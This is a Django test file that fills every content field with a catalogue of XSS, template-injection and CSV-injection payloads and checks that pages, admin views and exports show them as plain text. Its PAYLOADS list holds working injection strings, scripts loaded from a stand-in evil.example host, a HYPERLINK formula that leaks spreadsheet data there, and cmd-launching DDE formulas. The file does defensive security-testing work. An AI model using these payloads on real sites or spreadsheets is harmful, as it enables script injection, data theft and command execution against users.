"""A catalogue of well-known XSS payloads in every free-text field: never rendered as markup."""

import csv
import io
import re
from html.parser import HTMLParser

import pytest
from django.utils import timezone

from cases.models import Case
from ecosystem.models import Actor, Ecosystem, Factor, Relation
from lessons.models import Audience, Lesson, Pioneer, Source
from meetings.models import Meeting, Statement
from tests.factories import UserFactory

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<body onload=alert(1)>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    '<a href="javascript:alert(1)">klik</a>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)>",
    '<object data="javascript:alert(1)">',
    '<embed src="javascript:alert(1)">',
    '<form action="javascript:alert(1)"><button>x</button></form>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import'//evil.example'</style>",
    '<div style="background:url(javascript:alert(1))">',
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<!--<script>alert(1)//-->",
    "]]><script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</script>",
    '![x](x" onerror="alert(1))',
    "<a href=&#106;avascript:alert(1)>x</a>",
    # Without markup characters: these must stay plain text (checked separately).
    "javascript:alert(1)",
    "[klik](javascript:alert(1))",
    "{{7*7}}",
    "{% debug %}",
    "${7*7}",
    # Spreadsheet formulas (CSV injection): in an export, a cell never starts one.
    '=HYPERLINK("https://evil.example/?leak="&A1,"klik")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]
MARKUP = [payload for payload in PAYLOADS if re.search(r"[<>]", payload)]
FORMULAS = [payload for payload in PAYLOADS if payload[0] in "=+-@"]
URL_ATTRIBUTES = {"href", "src", "action", "data", "formaction", "xlink:href"}


class AttributeCheck(HTMLParser):
    """Collects event-handler attributes and script URLs of every real element."""

    def __init__(self):
        super().__init__()
        self.problems: list[str] = []

    def handle_starttag(self, tag, attrs):
        for name, value in attrs:
            if name.startswith("on"):
                self.problems.append(f"<{tag} {name}=…>")
            if name in URL_ATTRIBUTES and (value or "").strip().lower().startswith(
                ("javascript:", "vbscript:", "data:text/html")
            ):
                self.problems.append(f"<{tag} {name}={value!r}>")


@pytest.fixture
def hostile_world(db):
    """Every free-text field of every kind of content, filled with the payloads."""
    made = {"lessons": [], "cases": [], "maps": [], "meetings": [], "pioneers": [], "sources": []}
    now = timezone.now()
    for n, payload in enumerate(PAYLOADS):
        source = Source.objects.create(
            kind="artikel", title=payload, slug=f"bron-{n}", summary=payload
        )
        pioneer = Pioneer.objects.create(
            name=payload, slug=f"voorloper-{n}", role=payload, organisation=payload, bio=payload,
            may_publish=True,
        )  # fmt: skip
        audience = Audience.objects.create(name=f"{payload} {n}", slug=f"doelgroep-{n}")
        lesson = Lesson.objects.create(
            title=payload, slug=f"les-{n}", lead=payload, body=f"{payload}\n\n{payload}",
            status="published", published_at=now, source=source,
        )  # fmt: skip
        lesson.themes.set([f"{payload} {n}"])
        lesson.audiences.set([audience])
        lesson.pioneers.set([pioneer])
        case = Case.objects.create(
            title=payload, public_title=payload, slug=f"case-{n}", transition_task=payload,
            region="utrecht",
            organisation=payload, bottleneck=payload, tried=payload, help_wanted=payload,
            contact_name=payload, contact_email="x@example.org", consent_version="v",
            consented_at=now, submitted_at=now, status_changed_at=now, public_summary=payload,
            insights=payload, is_public=True, private_notes=payload, status="in_onderzoek",
        )  # fmt: skip
        case.events.create(to_status="ingediend", created_at=now, public_message=payload)
        case.lessons.add(lesson)
        ecosystem = Ecosystem.objects.create(
            title=payload, slug=f"kaart-{n}", task=payload, new_reality=payload, status="published",
            case=case, self_service=True,
        )  # fmt: skip
        first = Actor.objects.create(ecosystem=ecosystem, name=payload, party="rijk", note=payload)
        second = Actor.objects.create(ecosystem=ecosystem, name=f"{payload}2", party="burgers")
        Factor.objects.create(
            ecosystem=ecosystem, name=payload, kind="kennis", effect="helpt", note=payload
        )
        Relation.objects.create(
            ecosystem=ecosystem, source=first, target=second, kind="spanning", note=payload
        )
        meeting = Meeting.objects.create(
            kind="ronde_tafel", title=payload, slug=f"tafel-{n}", starts_at=now, place=payload,
            summary=payload, is_published=True,
        )  # fmt: skip
        Statement.objects.create(meeting=meeting, text=payload, order=1, is_open=n % 2 == 0)
        meeting.lessons.add(lesson)
        meeting.cases.add(case)
        items = {"lessons": lesson, "cases": case, "maps": ecosystem, "meetings": meeting,
                 "pioneers": pioneer, "sources": source}  # fmt: skip
        for key, item in items.items():
            made[key].append(item)
    return made


def assert_inert(url: str, response) -> None:
    assert response.status_code == 200, url
    body = response.content.decode("utf-8", errors="replace")
    for payload in MARKUP:
        assert payload not in body, f"{url} shows {payload!r} as markup"
    if response["Content-Type"].startswith(("text/html", "image/svg+xml")):
        # Quotes in text are harmless; what matters is that no attribute was injected.
        check = AttributeCheck()
        check.feed(body)
        assert check.problems == [], url


def public_urls(world) -> list[str]:
    urls = [
        "/", "/lessen/", "/voorlopers/", "/praktijkcases/", "/ecosystemen/", "/bijeenkomsten/",
        "/feeds/lessen/", "/feeds/praktijkcases/", "/sitemap.xml",
    ]  # fmt: skip
    for payload in PAYLOADS[:8]:
        urls += [f"/zoeken/?q={payload}", f"/lessen/?q={payload}"]
    for n in range(len(PAYLOADS)):
        lesson, case, ecosystem = world["lessons"][n], world["cases"][n], world["maps"][n]
        urls += [
            lesson.get_absolute_url(), case.get_absolute_url(), case.get_status_url(),
            ecosystem.get_absolute_url(), f"{ecosystem.get_absolute_url()}kaart.svg",
            f"{ecosystem.get_absolute_url()}export.json", ecosystem.get_edit_url(),
            world["meetings"][n].get_absolute_url(), world["meetings"][n].get_live_url(),
            world["pioneers"][n].get_absolute_url(), world["sources"][n].get_absolute_url(),
        ]  # fmt: skip
    return urls


def test_public_pages_status_pages_and_exports_show_payloads_as_text(client, hostile_world):
    for url in public_urls(hostile_world):
        assert_inert(url, client.get(url))


def test_template_syntax_in_content_is_not_evaluated(client, hostile_world):
    index = PAYLOADS.index("{{7*7}}")
    html = client.get(hostile_world["lessons"][index].get_absolute_url()).content.decode()
    assert "{{7*7}}" in html
    assert (
        "{% debug %}"
        in client.get(hostile_world["lessons"][index + 1].get_absolute_url()).content.decode()
    )


@pytest.mark.parametrize("formula", FORMULAS)
def test_csv_export_keeps_payloads_out_of_formulas(client, hostile_world, formula):
    """Every text cell of the map's CSV (names, notes, the names a relation links) holds the
    formula, read as a spreadsheet reads it: as text, behind a quote."""
    ecosystem = hostile_world["maps"][PAYLOADS.index(formula)]
    text = client.get(f"{ecosystem.get_absolute_url()}export.csv").content.decode("utf-8-sig")
    _header, *rows = csv.reader(io.StringIO(text), delimiter=";")
    cells = [cell for row in rows for cell in row]
    # Two actors (names, one note), the factor (name, note), the relation (both names, note).
    assert sum(cell.startswith(f"'{formula}") for cell in cells) == 8
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))]


def test_admin_pages_show_payloads_as_text(client, hostile_world):
    client.force_login(UserFactory(username="beheer", is_staff=True, is_superuser=True))
    urls = [
        "/admin/", "/admin/lessons/lesson/", "/admin/cases/case/", "/admin/ecosystem/ecosystem/",
        "/admin/meetings/meeting/", "/admin/lessons/themetag/", "/admin/lessons/pioneer/",
    ]  # fmt: skip
    for n in range(0, len(PAYLOADS), 3):
        urls += [
            f"/admin/lessons/lesson/{hostile_world['lessons'][n].pk}/change/",
            f"/admin/cases/case/{hostile_world['cases'][n].pk}/change/",
            f"/admin/ecosystem/ecosystem/{hostile_world['maps'][n].pk}/change/",
            f"/admin/meetings/meeting/{hostile_world['meetings'][n].pk}/change/",
            f"/admin/lessons/pioneer/{hostile_world['pioneers'][n].pk}/change/",
            f"/admin/lessons/lesson/{hostile_world['lessons'][n].pk}/history/",
        ]
    for url in urls:
        assert_inert(url, client.get(url))
